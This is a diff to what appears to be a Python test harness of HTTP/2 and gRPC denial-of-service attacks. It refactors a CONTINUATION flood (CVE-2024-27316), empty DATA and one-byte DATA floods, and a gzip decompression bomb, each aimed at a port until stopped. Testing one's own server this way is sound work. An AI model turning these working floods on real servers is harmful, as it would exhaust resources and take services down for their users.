@@ -1,6 +1,5 @@
 """One attack each: a function that goes on against a port until it is stopped, and gives how often it was thrown out."""
 import gzip
-import select
 import struct
 import time
 
@@ -63,17 +62,19 @@ def window_overflow(port, until):
         call(stream, UNARY, order(wait_us=1_000_000)) + window_update(stream, 2**31 - 1) for stream in peer.streams(100)))
 
 
+def header_block_without_end(stream, frames, filler=b""):
+    return frame(HEADERS, 0, stream, fields(UNARY)) + frames * frame(CONTINUATION, 0, stream, filler)
+
+
 @attack("CONTINUATION without end (CVE-2024-27316)")
 def continuation_flood(port, until):
     filler = literal("x-filler", "x" * 16_000)
-    return repeat(port, until, lambda peer: b"".join(
-        [frame(HEADERS, 0, stream, fields(UNARY)) + 100 * frame(CONTINUATION, 0, stream, filler) for stream in peer.streams(1)]))
+    return repeat(port, until, lambda peer: header_block_without_end(peer.next_stream(), 100, filler))
 
 
 @attack("empty CONTINUATION without end")
 def empty_continuation_flood(port, until):
-    return repeat(port, until, lambda peer: b"".join(
-        [frame(HEADERS, 0, stream, fields(UNARY)) + 5_000 * frame(CONTINUATION, 0, stream) for stream in peer.streams(1)]))
+    return repeat(port, until, lambda peer: header_block_without_end(peer.next_stream(), 5_000))
 
 
 @attack("SETTINGS, answers unread")
@@ -104,7 +105,7 @@ def window_update_flood(port, until):
 @attack("empty DATA")
 def empty_data_flood(port, until):
     def make(peer):
-        stream = peer.streams(1)[0]
+        stream = peer.next_stream()
         return frame(HEADERS, END_HEADERS, stream, fields(ECHO)) + 4_000 * frame(DATA, 0, stream)
     return repeat(port, until, make)
 
@@ -112,7 +113,7 @@ def empty_data_flood(port, until):
 @attack("a message of 4 MiB in DATA frames of one byte")
 def one_byte_data(port, until):
     def make(peer):
-        stream = peer.streams(1)[0]
+        stream = peer.next_stream()
         start = frame(HEADERS, END_HEADERS, stream, fields(UNARY)) + frame(DATA, 0, stream, struct.pack(">BI", 0, 4 << 20))
         return start + 20_000 * frame(DATA, 0, stream, b"x")
     return repeat(port, until, make)
@@ -164,20 +165,15 @@ def slow_sender(port, until):
     return hold(port, until, opening, 50, every=1, tick=tick)
 
 
-@attack("gzip: a gigabyte in a megabyte")
+@attack("gzip: 64 MiB in 64 KiB")
 def gzip_bomb(port, until):
-    bomb = gzip.compress(bytes(1 << 30), 1)
+    bomb = message(gzip.compress(bytes(64 << 20), 9), 1)
 
     def make(peer):
-        stream = peer.streams(1)[0]
-        sent = frame(HEADERS, END_HEADERS, stream, fields(UNARY, ("grpc-encoding", "gzip")))
-        whole = message(bomb, 1)
-        for at in range(0, len(whole), 16_384):
-            sent += frame(DATA, END_STREAM if at + 16_384 >= len(whole) else 0, stream, whole[at:at + 16_384])
-        return sent
-    small = gzip.compress(bytes(64 << 20), 9)
-    if len(small) < 200_000:
-        bomb = small  # 64 MiB in 64 KiB: fits the window of a stream
+        stream = peer.next_stream()
+        pieces = [bomb[at:at + 16_384] for at in range(0, len(bomb), 16_384)]
+        return (frame(HEADERS, END_HEADERS, stream, fields(UNARY, ("grpc-encoding", "gzip"))) +
+                b"".join(frame(DATA, 0, stream, piece) for piece in pieces[:-1]) + frame(DATA, END_STREAM, stream, pieces[-1]))
     return repeat(port, until, make)
 
 
